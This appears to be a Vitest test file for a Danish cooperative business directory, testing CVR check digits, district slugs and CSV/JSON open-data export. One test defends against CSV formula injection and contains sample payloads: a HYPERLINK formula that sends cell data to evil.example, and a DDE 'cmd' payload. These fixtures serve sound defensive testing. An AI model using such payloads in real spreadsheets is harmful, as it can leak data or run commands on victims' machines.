import { describe, expect, it } from 'vitest';
import { isValidCvr } from '../../src/lib/directory/cvr.ts';
import { csvField, toCsv, toPublicRecord } from '../../src/lib/directory/open-data.ts';
import { districtPath, districtSlug } from '../../src/lib/content/paths.ts';
import { businessSchema } from '../../src/lib/content/schemas.ts';

describe('CVR numbers', () => {
  it('accepts eight digits whose weighted sum is divisible by 11', () => {
    expect(isValidCvr('10150817')).toBe(true); // 2·1+7·0+6·1+5·5+4·0+3·8+2·1+1·7 = 66
    expect(isValidCvr('24256790')).toBe(true);
  });

  it('refuses a wrong check digit, wrong length, letters and a leading zero', () => {
    for (const bad of ['10150818', '1015081', '101508170', '1015O817', '01234567', '', ' 10150817'])
      expect(isValidCvr(bad), bad).toBe(false);
  });

  it('is the rule the directory schema applies', () => {
    const entry = {
      name: 'Eksempel',
      legalForm: 'F.M.B.A.',
      sector: 'Handel',
      district: 'Nørrebro',
      offers: ['detailhandel'],
      summary: 'Et fiktivt eksempel.',
    };
    expect(businessSchema.safeParse({ ...entry, cvr: '10150817' }).success).toBe(true);
    const refused = businessSchema.safeParse({ ...entry, cvr: '10150818' });
    expect(refused.success).toBe(false);
    expect(refused.error?.issues[0]?.message).toBe('skal være et gyldigt CVR-nummer: 8 cifre, modulus 11');
  });
});

describe('district addresses', () => {
  it('spells Danish letters out and joins words with hyphens', () => {
    expect(districtSlug('Vesterbro/Kongens Enghave')).toBe('vesterbro-kongens-enghave');
    expect(districtSlug('Brønshøj-Husum')).toBe('broenshoej-husum');
    expect(districtPath('Amager Øst')).toBe('/virksomheder/bydel/amager-oest/');
  });
});

describe('open data', () => {
  const business = businessSchema.parse({
    name: 'Kooperativet "Syd"; tryk og grafik',
    legalForm: 'A.M.B.A.',
    sector: 'Medier og kultur',
    district: 'Valby',
    offers: ['tryk-og-grafisk', 'kommunikation-og-medier'],
    rsv: false,
    summary: 'Et fiktivt trykkeri\nmed to linjer.',
    reviewed: '2026-11-29',
    fictional: true,
  });
  const record = toPublicRecord(business, 'https://example.dk/virksomheder/syd/');

  it('has only public fields, with what is unknown left empty', () => {
    expect(record).toEqual({
      navn: 'Kooperativet "Syd"; tryk og grafik',
      cvr: '',
      selskabsform: 'A.M.B.A.',
      branche: 'Medier og kultur',
      bydel: 'Valby',
      ydelser: ['Tryk og grafisk', 'Kommunikation og medier'],
      rsv: false,
      rummelige_job: [],
      stiftet: null,
      hjemmeside: '',
      beskrivelse: 'Et fiktivt trykkeri\nmed to linjer.',
      side: 'https://example.dk/virksomheder/syd/',
      senest_gennemgaaet: '2026-11-29',
    });
  });

  it('writes CSV that Danish Excel and pandas open in columns: BOM, the header first, semicolons, quoted fields', () => {
    const csv = toCsv([record]);
    expect(csv.startsWith('\uFEFFnavn;cvr;')).toBe(true);
    const [header, row] = csv.slice(1).split('\r\n');
    expect(header).toBe(
      'navn;cvr;selskabsform;branche;bydel;ydelser;rsv;stiftet;hjemmeside;beskrivelse;side;senest_gennemgaaet;rummelige_job',
    );
    expect(row).toBe(
      '"Kooperativet ""Syd""; tryk og grafik";;A.M.B.A.;Medier og kultur;Valby;Tryk og grafisk, Kommunikation og medier;nej;;;"Et fiktivt trykkeri\nmed to linjer.";https://example.dk/virksomheder/syd/;2026-11-29;',
    );
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection) and quotes them right', () => {
    // A partner-submitted entry: each text field starts as a formula would.
    const hostile = businessSchema.parse({
      name: '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
      legalForm: 'A.M.B.A.',
      sector: 'Handel',
      district: 'Valby',
      offers: ['detailhandel'],
      summary: '@SUM(1+1)*cmd|" /C calc"!A0',
    });
    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')])
      .slice(1)
      .split('\r\n')[1]!;
    const cells = row.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
    expect(cells[9]).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    for (const [raw, shown] of [
      ['=1+1', "'=1+1"],
      ['+45 12 34 56 78', "'+45 12 34 56 78"],
      ['-2+3', "'-2+3"],
      ['@A1', "'@A1"],
      ['\t=1', "'\t=1"],
      ['\r=1', '"\'\r=1"'],
      ['\n=1', '"\'\n=1"'],
      ['  =1', "'  =1"],
      ['a;b', '"a;b"'],
      ['say "hi"', '"say ""hi"""'],
      ['two\nlines', '"two\nlines"'],
      ['Kooperativ A.M.B.A.', 'Kooperativ A.M.B.A.'],
      ['1-2 dage', '1-2 dage'],
      ['info@example.dk', 'info@example.dk'],
    ] as const)
      expect(csvField(raw), JSON.stringify(raw)).toBe(shown);
  });

  it('keeps the JSON download plain data: formulas stay as typed, and JSON escapes quotes', () => {
    const json = JSON.stringify(
      toPublicRecord(
        businessSchema.parse({
          name: '=1+1 "</script>',
          legalForm: 'A.M.B.A.',
          sector: 'Handel',
          district: 'Valby',
          offers: ['detailhandel'],
          summary: 'x',
        }),
        'https://example.dk/',
      ),
    );
    expect(JSON.parse(json).navn).toBe('=1+1 "</script>');
  });
});
